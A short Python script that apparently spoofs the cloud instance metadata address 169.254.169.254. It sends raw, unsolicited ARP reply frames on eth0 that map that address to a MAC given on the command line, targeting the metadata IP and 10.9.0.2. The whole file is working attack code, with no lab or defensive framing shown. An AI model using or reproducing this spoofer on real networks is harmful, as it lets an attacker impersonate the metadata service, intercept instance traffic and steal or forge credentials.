"""Claims the metadata service's address by unsolicited ARP replies to everybody: `arp_announcer.py MAC`."""

import socket
import sys

SERVICE = socket.inet_aton("169.254.169.254")
ETHERNET, IPV4, REPLY = b"\x08\x06\x00\x01", b"\x08\x00\x06\x04", b"\x00\x02"

if __name__ == "__main__":
    mac, broadcast = bytes.fromhex(sys.argv[1].replace(":", "")), b"\xff" * 6
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind(("eth0", 0))
        for target in (SERVICE, socket.inet_aton("10.9.0.2")):
            sender.send(broadcast + mac + ETHERNET + IPV4 + REPLY + mac + SERVICE + broadcast + target)
